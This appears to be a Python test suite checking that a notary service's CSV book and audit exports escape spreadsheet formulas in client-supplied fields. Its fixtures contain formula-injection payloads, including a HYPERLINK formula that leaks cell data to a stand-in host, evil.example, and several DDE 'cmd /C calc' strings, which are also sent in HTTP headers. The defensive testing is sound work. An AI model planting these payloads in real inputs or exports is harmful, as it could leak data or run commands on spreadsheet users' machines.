"""CSV exports over HTTP carry no formula a spreadsheet would run: values a
client chose (a document's title and type, a principal, a cancel reason, a
User-Agent, a request id) that start with =, +, -, @, a tab or a carriage
return reach the notarial book and the audit export with a single quote in
front (OWASP); the JSON exports keep them as they are."""

from __future__ import annotations

import csv
import io
import json

import aiohttp

from tests.conftest import Harness
from tests.flows import PH, bearer, doc, online_notary

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
TYPE = "+cmd|' /C calc'!A0"
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
ADDRESS = "-2+3+cmd|' /C calc'!A0"
REASON = "\t=1+1"


def no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


async def test_the_book_export_neutralises_formulas(server: Harness) -> None:
    notary = await online_notary(server, "n1")
    customer = await server.client("c1", "customer")
    document = {**doc(3), "type": TYPE, "title": HYPERLINK}
    request = {
        "idempotency_key": "csv",
        "document": document,
        "principal": {"name": NAME, "address": ADDRESS, "id_type": "passport"},
    }
    sid = (await customer.call("session.request", request))["session_id"]
    offer = await notary.expect("offer")
    await notary.call("offer.accept", {"offer_id": offer["data"]["offer_id"]})
    joined = await customer.call("session.join", {"session_id": sid, "location": PH})
    month = joined["session"]["created_at"][:7]
    # Cancelled after the assignment: an incomplete-act entry, with the reason.
    await customer.call("session.cancel", {"session_id": sid, "reason": REASON})
    await customer.expect("session.state", state="CANCELLED")
    path = f"/v1/notaries/n1/book?month={month}"
    async with aiohttp.ClientSession() as s:
        r = await s.get(server.url(path + "&format=csv"), headers=bearer(server.token("n1", "enp")))
        assert r.status == 200 and r.content_type == "text/csv"
        text = await r.text()
        r = await s.get(
            server.url(path + "&format=json"), headers=bearer(server.token("n1", "enp"))
        )
        [entry] = (await r.json())["entries"]
    rows = list(csv.reader(io.StringIO(text)))
    no_formula(rows)
    [record] = list(csv.DictReader(io.StringIO(text)))
    assert record["document_title"] == "'" + HYPERLINK
    assert record["act"] == "'" + TYPE
    assert record["principals"] == f"'{NAME} ({ADDRESS})"
    assert record["incomplete_reason"] == "'" + REASON
    assert record["session_id"] == sid  # what needs no quote gets none
    # The JSON export is data, not a spreadsheet: values as they were given.
    assert entry["document_title"] == HYPERLINK and entry["act"] == TYPE
    assert entry["incomplete_reason"] == REASON


async def test_the_audit_export_neutralises_formulas(server: Harness) -> None:
    admin = bearer(server.token("csv-admin", "admin"))
    sneaky = {**admin, "User-Agent": HYPERLINK, "X-Request-Id": "@cmd|' /C calc'!A0"}
    async with aiohttp.ClientSession() as s:
        r = await s.get(server.url("/v1/sessions?state=REQUESTED"), headers=sneaky)
        assert r.status == 200
        r = await s.get(server.url("/v1/audit?user_id=csv-admin&format=csv"), headers=admin)
        assert r.status == 200 and r.headers["Content-Type"].startswith("text/csv")
        text = await r.text()
        r = await s.get(server.url("/v1/audit?user_id=csv-admin&format=json"), headers=admin)
        entries = (await r.json())["entries"]
    rows = list(csv.reader(io.StringIO(text)))
    no_formula(rows)
    records = list(csv.DictReader(io.StringIO(text)))
    [listed] = [r for r in records if r["action"] == "GET /v1/sessions"]
    assert listed["user_agent"] == "'" + HYPERLINK
    assert listed["correlation_id"] == "'@cmd|' /C calc'!A0"
    assert json.loads(listed["metadata"])["status"] == 200
    [raw] = [e for e in entries if e["action"] == "GET /v1/sessions"]
    assert raw["user_agent"] == HYPERLINK
